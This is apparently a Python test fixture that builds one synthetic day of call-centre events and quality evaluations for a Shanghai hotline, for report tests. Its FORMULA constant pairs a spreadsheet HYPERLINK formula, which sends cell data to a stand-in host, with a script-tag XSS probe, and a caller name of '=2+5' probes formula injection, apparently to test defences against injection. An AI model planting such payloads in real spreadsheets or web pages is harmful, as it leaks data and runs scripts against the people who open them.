"""One day of a house in a real ledger and a real quality book, small enough to count by hand.

2026-11-20, Shanghai. Callers of queue `support`: answered after 8 s (801, rules kept), answered
after 45 s (801, rule A08 broken, a complaint, talk-over), abandoned after 10 s, abandoned after
60 s. One of `sales` answered after 2 s by 802 with a promise and a verdict of 5. One silent call
that came to no queue. One mystery call, and one call still on the line.
"""

from __future__ import annotations

import asyncio
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

from calls.call import Call
from calls.clock import ManualClock
from calls.events import (
    AgentAnswered,
    AnsweredFact,
    CallTagged,
    Disposed,
    EndedFact,
    Held,
    LeftQueue,
    Offered,
    Promised,
    Queued,
    RecordingMeasured,
    RecordingStarted,
    RulesJudged,
    Surveyed,
    TicketOpened,
)
from calls.floor.events import FloorEvent, OfferOver, StateEntered
from calls.quality.events import EvaluationClaimed, EvaluationOpened, EvaluationSubmitted
from console.reports.house import House
from ledger.quality.book import QualityBook
from ledger.quality.rows import Entry
from ledger.writer import LedgerWriter

SHANGHAI = ZoneInfo("Asia/Shanghai")
DAY = date(2026, 11, 20)
FORMULA = '=HYPERLINK("http://x/?"&A1,"refund") <script>alert(1)</script> 13800001234'
"""What a caller who means ill gives as the matter."""

HOUSE = House(
    company={"zh": "三声服务热线", "en": "Thirdring"},
    zone=SHANGHAI,
    agents={"801": "王芳"},
    rules={"A08": {"zh": "结束语", "en": "Closing"}},
    questions={"greeting": {"zh": "首句为问候语", "en": "Greeting first"}},
)


def noon() -> ManualClock:
    """The clock of whoever reads the day: 20:00 of it in Shanghai."""
    return ManualClock(datetime(2026, 11, 20, 12, tzinfo=UTC))


def write_day(folder: Path) -> dict[str, str]:
    """`ledger.sqlite` and `quality.sqlite`; what a call is -> its id."""
    with LedgerWriter(folder / "ledger.sqlite") as writer:
        ids = _calls(writer)
        for event in _floor():
            writer.append_floor(event)
        asyncio.run(writer.durable())
    _evaluate(folder, ids)
    return ids


def _calls(writer: LedgerWriter) -> dict[str, str]:
    late = _Caller(writer, "09:20")
    return {
        "silent": _Caller(writer, "08:05").ends("silent"),
        "prompt": _Caller(writer, "09:10")
        .queued()
        .taken("801", 8, 100)
        .ends("served", kept=("A02", "A08")),
        "late": late.queued()
        .taken("801", 45, 180)
        .complains()
        .talked_over()
        .ends("served", kept=("A02",), broken=("A08",)),
        "gone": _Caller(writer, "09:30").queued().gives_up(10),
        "gone_late": _Caller(writer, "10:05").queued().gives_up(60),
        "promised": _Caller(writer, "10:10", "sales")
        .queued()
        .taken("802", 2, 60)
        .promised()
        .ends("promised", verdict=5),
        "mystery": _Caller(writer, "11:00")
        .promised()
        .complains()
        .queued()
        .taken("801", 90, 30)
        .ends("served", tag="mystery"),
        "live": _Caller(writer, "19:59").queued().call.id,
    }


class _Caller:
    """One call, step by step."""

    def __init__(self, writer: LedgerWriter, clock: str, queue: str = "support") -> None:
        local = datetime.fromisoformat(f"{DAY} {clock}").replace(tzinfo=SHANGHAI)
        self.clock = ManualClock(local.astimezone(UTC))
        self.call = Call(self.clock, writer)
        self.queue = queue
        self.agent = ""
        self.call.record(
            Offered(
                uniqueid="1.1",
                ani="13800001234",
                dnis="4001",
                caller_name="=2+5",
                direction="inbound",
                flow="greetings",
                channel="PJSIP/x-1",
            )
        )
        self.clock.advance_ms(1000)
        self.call.record(AnsweredFact(rings=1, waited_ms=1000))
        self.call.record(
            RecordingStarted(recording=f"{self.call.id}-r1", caller_file="a", house_file="b")
        )

    def queued(self) -> _Caller:
        self.call.record(Queued(queue=self.queue))
        return self

    def taken(self, agent: str, waited_s: int, talked_s: int) -> _Caller:
        self.clock.advance_ms(waited_s * 1000)
        self.call.record(AgentAnswered(agent=agent, waited_ms=waited_s * 1000))
        self.clock.advance_ms(talked_s * 500)
        self.call.record(Held(on=True))
        self.clock.advance_ms(10_000)
        self.call.record(Held(on=False))
        self.clock.advance_ms(talked_s * 500 - 10_000)
        self.call.record(
            LeftQueue(
                queue=self.queue,
                result="answered",
                waited_ms=waited_s * 1000,
                talked_ms=talked_s * 1000,
                agent=agent,
            )
        )
        self.agent = agent
        return self

    def complains(self) -> _Caller:
        due = (self.call.offered_at + timedelta(days=3)).isoformat()
        self.call.record(
            TicketOpened(ticket="t1", ticket_class="complaint_general", about=FORMULA, due_at=due)
        )
        return self

    def promised(self) -> _Caller:
        due = (self.call.offered_at + timedelta(hours=1)).isoformat()
        self.call.record(Promised(promise="p1", number="13912345678", about=FORMULA, due_at=due))
        return self

    def talked_over(self) -> _Caller:
        self.call.record(
            RecordingMeasured(
                recording=f"{self.call.id}-r1",
                version=1,
                caller_talk_ms=60_000,
                house_talk_ms=80_000,
                agent_talk_ms=50_000,
                silence_ms=20_000,
                talk_over_ms=4_000,
                talk_overs=((90_000, 94_000),),
                dead_air_ms=12_000,
                dead_air_from_ms=100_000,
                caller_level_dbov=-20.0,
                house_level_dbov=-20.0,
                caller_noise_dbov=-60.0,
            )
        )
        return self

    def gives_up(self, waited_s: int) -> str:
        self.clock.advance_ms(waited_s * 1000)
        self.call.record(
            LeftQueue(
                queue=self.queue,
                result="abandoned",
                waited_ms=waited_s * 1000,
                talked_ms=0,
                agent="",
            )
        )
        return self.ends("abandoned")

    def ends(
        self,
        disposition: str,
        *,
        kept: tuple[str, ...] = (),
        broken: tuple[str, ...] = (),
        verdict: int | None = None,
        tag: str = "",
    ) -> str:
        call = self.call
        call.record(EndedFact(end_reason="completed", disposition=disposition))
        if self.agent:
            self.clock.advance_ms(20_000)
            call.record(Disposed(agent=self.agent, disposition=disposition, note=""))
        if kept or broken:
            call.record(RulesJudged(rules="d", kept=kept, broken=broken))
        if verdict is not None:
            call.record(Surveyed(question="satisfaction", answer="very", score=verdict, by="ivr"))
        if tag:
            call.record(CallTagged(tag=tag, by="lily"))
        return call.id


def _floor() -> list[FloorEvent]:
    """801 signs in at 09:00: 30 min ready, 20 on call, 10 in wrap-up, then signed out; asked once
    by a colleague."""
    since = datetime(2026, 11, 20, 1, tzinfo=UTC)
    steps = (("ready", 0), ("on_call", 30), ("wrap_up", 50), ("signed_out", 60))
    events = []
    for state, minutes in steps:
        fact = StateEntered(state=state, reason="", call_id="", before="", lasted_ms=0)
        at = since + timedelta(minutes=minutes)
        events.append(FloorEvent("801", at, "state", fact.data()))
        if state == "on_call":
            for result, rings in (("answered", 1), ("missed", 4)):
                offer = OfferOver(
                    call_id="", rings=rings, rung_ms=5000, result=result, late=rings > 3
                )
                events.append(FloorEvent("801", at, "offer", offer.data()))
            asked = OfferOver(
                call_id="", rings=1, rung_ms=900, result="answered", late=False, asked=True
            )
            events.append(FloorEvent("801", at, "offer", asked.data()))
    return events


def _evaluate(folder: Path, ids: dict[str, str]) -> None:
    """801 scored 90 and 70 (below), and a mystery call that counts for nobody."""
    scores = (("prompt", 90.0, "passed", "review"), ("late", 70.0, "below", "review"))
    with QualityBook.open(folder / "quality.sqlite", clock=noon()) as book:
        for number, (call, score, result, purpose) in enumerate(
            (*scores, ("mystery", 10.0, "below", "mystery"))
        ):
            book.append_all(_entries(f"evaluation/e{number}", ids[call], score, result, purpose))


def _entries(stream: str, call_id: str, score: float, result: str, purpose: str) -> list[Entry]:
    opened = EvaluationOpened(
        call_id=call_id,
        agent="801",
        form="service",
        form_digest="d",
        purpose=purpose,
        drawn_by="",
        why="chosen",
    )
    submitted = EvaluationSubmitted(
        answers={"greeting": "yes", "closing": "no" if score < 80 else "yes"},
        machine={"greeting": "yes", "closing": "yes"},
        score=score,
        result=result,
        sections={},
        respond_by="2026-11-25T00:00:00+00:00",
    )
    claimed = EvaluationClaimed(until="2026-11-21T00:00:00+00:00")
    return [Entry(stream, fact, "lily") for fact in (opened, claimed, submitted)]
